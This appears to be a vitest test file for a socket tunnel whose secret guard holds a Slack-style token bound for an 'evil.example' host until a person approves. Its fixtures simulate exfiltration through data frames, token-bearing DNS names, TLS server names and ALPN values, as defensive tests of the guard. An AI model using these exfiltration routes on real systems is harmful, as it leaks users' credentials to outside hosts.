import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import type { ConnectionRecord, GuardedSecret, NetworkAnswer, SecretQuestion } from "../protocol.ts";
import { createConnectionLog } from "./connection-log.ts";
import { createPermissions } from "./permissions.ts";
import { createSecretGuard } from "./secret-guard.ts";
import { createSocketTunnel, type SocketTunnel } from "./socket-tunnel.ts";
import { FakeSocket, FakeWorker, permittedRun } from "./testing/fakes.ts";

const TOKEN = "xoxb-4711-Zq8Yw7";
const connect = { op: "connect", host: "evil.example", port: 80 } as const;
const open = {
  ev: "open",
  remoteAddress: "192.0.2.1",
  remotePort: 80,
  localAddress: "10.0.0.2",
  localPort: 5000,
} as const;

let socket: FakeSocket;
let worker: FakeWorker;
let tunnel: SocketTunnel;
let records: ConnectionRecord[];
let questions: SecretQuestion[];
let answer: (answer: NetworkAnswer) => void;

beforeEach(() => {
  records = [];
  questions = [];
  socket = new FakeSocket();
  const secrets: readonly GuardedSecret[] = [
    {
      name: "slack.$auth.token",
      account: "Acme",
      forms: [TOKEN],
      belongsTo: (host) => host === "slack.com",
    },
  ];
  const { port1, port2 } = new MessageChannel();
  worker = new FakeWorker(port2);
  tunnel = createSocketTunnel({
    port: port1,
    openSockets: () => socket as unknown as WebSocket,
    permissions: createPermissions(permittedRun()),
    guard: createSecretGuard({
      secrets: () => secrets,
      ask: (question) => {
        questions.push(question);
        return new Promise((resolve) => {
          answer = resolve;
        });
      },
    }),
    log: createConnectionLog((record) => records.push(record)),
  });
});
afterEach(() => {
  tunnel.close();
  worker.port.close();
});

let marker = 1000;

/** Everything that the worker has sent so far was handled. */
async function handled(): Promise<void> {
  marker += 1;
  const last = marker;
  worker.command(last, { op: "resolve", host: "marker.example" });
  await vi.waitFor(() => expect(socket.sent().at(-1)?.[0]).toBe(last));
}

/** What went to the gateway on channel 1. */
const sent = () => socket.sent().flatMap(([channel, what]) => (channel === 1 ? [what] : []));
const heard = () => worker.messages.flatMap((message) => (message?.[0] === 1 ? [message[1]] : []));

async function connected(command: typeof connect | { op: "connect"; host: string; port: number } = connect) {
  worker.command(1, command);
  await vi.waitFor(() => expect(socket.onopen).not.toBeNull());
  socket.opens();
  await vi.waitFor(() => expect(sent()).toEqual([command]));
  socket.event(1, open);
}

/** Connected, and the token is held; `before` went out ahead of it. */
async function held(): Promise<void> {
  await connected();
  worker.data(1, `before ${TOKEN.slice(0, 8)}`);
  worker.data(1, `${TOKEN.slice(8)} after`);
  await vi.waitFor(() => expect(questions).toHaveLength(1));
}

const before = [connect, `before ${TOKEN.slice(0, 8)}`];
const rest = `${TOKEN.slice(8)} after`;

describe("bytes that complete a secret", () => {
  test("are held while the person is asked, and all that comes after them; acknowledgements are not", async () => {
    await held();
    worker.data(1, "more");
    worker.command(1, { op: "starttls", servername: "evil.example", verify: true, checkHostname: true });
    worker.command(1, { op: "shutdown" });
    socket.data(1, "an answer");
    worker.command(1, { op: "ack", bytes: 4 });
    await handled();
    expect(questions).toEqual([
      {
        kind: "secret",
        host: "evil.example",
        port: 80,
        secret: "slack.$auth.token",
        account: "Acme",
        place: "data",
      },
    ]);
    expect(sent()).toEqual([...before, { op: "ack", bytes: 4 }]);
    expect(records.at(-1)).toMatchObject({ state: "waiting-for-permission", bytesOut: 15 });
    await vi.waitFor(() => expect(heard()).toEqual([open, { ev: "asking" }, "an answer"]));

    answer("allow");
    await vi.waitFor(() => expect(sent().at(-1)).toEqual({ op: "shutdown" }));
    expect(sent().slice(3)).toEqual([
      rest,
      "more",
      { op: "starttls", servername: "evil.example", verify: true, checkHostname: true },
      { op: "shutdown" },
    ]);
    await vi.waitFor(() => expect(heard().at(-1)).toEqual({ ev: "answered" }));
    worker.data(1, TOKEN);
    await vi.waitFor(() => expect(sent().at(-1)).toBe(TOKEN));
    expect(questions, "asked once").toHaveLength(1);
  });

  test("are never sent after a no: the connection fails with EACCES and names secret and host", async () => {
    await held();
    worker.data(1, "more");
    await handled();
    answer("deny");
    await vi.waitFor(() => expect(heard().at(-1)).toEqual({ ev: "closed" }));
    expect(heard().slice(1, -1)).toEqual([
      { ev: "asking" },
      { ev: "answered" },
      {
        ev: "error",
        code: "EACCES",
        message: expect.stringMatching(/slack\.\$auth\.token.*evil\.example:80/),
      },
    ]);
    expect(sent()).toEqual([...before, { op: "close" }]);
    expect(records.at(-1)).toMatchObject({ state: "failed", error: expect.stringContaining("was not sent") });
    worker.data(1, "and more");
    await handled();
    expect(sent()).toEqual([...before, { op: "close" }]);
  });

  test("go unasked to the secret's own host", async () => {
    await connected({ op: "connect", host: "slack.com", port: 443 });
    worker.data(1, TOKEN);
    await vi.waitFor(() => expect(sent().at(-1)).toBe(TOKEN));
    expect(questions).toHaveLength(0);
  });

  test("wait for the answer also where the connection is closed behind them", async () => {
    await held();
    worker.command(1, { op: "close" });
    await handled();
    expect(sent()).toEqual(before);
    let settled = false;
    const waiting = tunnel.settled().then(() => {
      settled = true;
    });
    await handled();
    expect(settled).toBe(false);
    answer("allow");
    await waiting;
    await vi.waitFor(() => expect(sent()).toEqual([...before, rest, { op: "close" }]));
    expect(records.at(-1)?.state).toBe("closed");
  });

  test("are dropped when the peer ends the connection, or the tunnel is closed", async () => {
    await held();
    socket.event(1, { ev: "closed" });
    await tunnel.settled();
    expect(records.at(-1)).toMatchObject({
      state: "failed",
      error: expect.stringContaining("before it was answered"),
    });
    answer("allow");
    await handled();
    expect(sent()).toEqual(before);

    worker.command(2, connect);
    worker.data(2, TOKEN);
    await handled();
    const frames = socket.frames.length;
    tunnel.close();
    await tunnel.settled();
    expect(socket.frames).toHaveLength(frames);
  });

  test("hold only their own connection", async () => {
    await held();
    worker.command(2, connect);
    worker.data(2, "harmless");
    await vi.waitFor(() => expect(socket.sent().at(-1)).toEqual([2, "harmless"]));
  });
});

describe("a name that holds a secret", () => {
  test.each([
    ["is not looked up", { op: "resolve", host: `${TOKEN}.evil.example` }],
    ["is not connected to", { op: "connect", host: `${TOKEN.toLowerCase()}.evil.example`, port: 80 }],
  ])("%s before the person allows it", async (_what, command) => {
    worker.command(1, command);
    await vi.waitFor(() => expect(questions).toHaveLength(1));
    expect(questions[0]?.host).toBe("⟦slack.$auth.token⟧.evil.example");
    expect(socket.onopen, "not even the WebSocket was needed").toBeNull();
    answer("allow");
    await vi.waitFor(() => expect(socket.onopen).not.toBeNull());
    socket.opens();
    expect(sent()).toEqual([command]);
  });

  test("after a no the gateway has heard nothing of it", async () => {
    worker.command(1, { op: "connect", host: `${TOKEN}.evil.example`, port: 80 });
    await vi.waitFor(() => expect(questions).toHaveLength(1));
    answer("deny");
    await vi.waitFor(() => expect(heard().at(-1)).toEqual({ ev: "closed" }));
    expect(socket.onopen).toBeNull();
    expect(JSON.stringify(heard())).not.toContain(TOKEN);
  });

  test.each([
    ["a server's name", { servername: `${TOKEN}.slack.com` }],
    ["a protocol", { servername: "evil.example", alpn: ["h2", TOKEN] }],
  ])("%s in a handshake is held", async (_what, options) => {
    await connected();
    worker.command(1, { op: "starttls", verify: true, checkHostname: true, ...options });
    await vi.waitFor(() => expect(questions).toHaveLength(1));
    expect(questions[0]?.place).toBe("address");
    expect(sent()).toEqual([connect]);
  });
});
